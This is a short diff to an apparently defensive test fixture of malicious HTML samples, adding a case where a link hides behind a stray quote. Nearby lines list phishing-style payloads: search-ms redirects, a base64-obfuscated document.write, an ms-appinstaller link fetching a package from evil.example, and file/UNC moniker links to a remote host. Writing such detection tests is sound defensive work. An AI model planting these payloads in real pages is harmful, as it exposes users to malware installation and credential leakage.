@@ -46,6 +46,7 @@ STARTING = {
     "escaped": script(r"location.replace('\x73earch-ms:query=x');"),
     "unwrapped": script(f"document.write(atob('{base64.b64encode(LINK).decode()}'))"),
     "behind other values": page(body=f"<a title='x > y <b>' class=\"<i>\" href='{SEARCH}'>the invoice</a>"),
+    "behind a stray quote": page(body=f"<a ' < href={SEARCH}>the invoice</a>"),
     "installs": page(body='<a href="ms-appinstaller:?source=https://evil.example/a.msix">x</a>'),
     "opens by its moniker": page(body='<a href="file:///\\\\192.0.2.1\\a\\b.rtf!c">x</a>'),
     "a picture by its moniker": page(body='<img src="\\\\\\\\192.0.2.1\\\\a\\\\b.rtf!c">'),
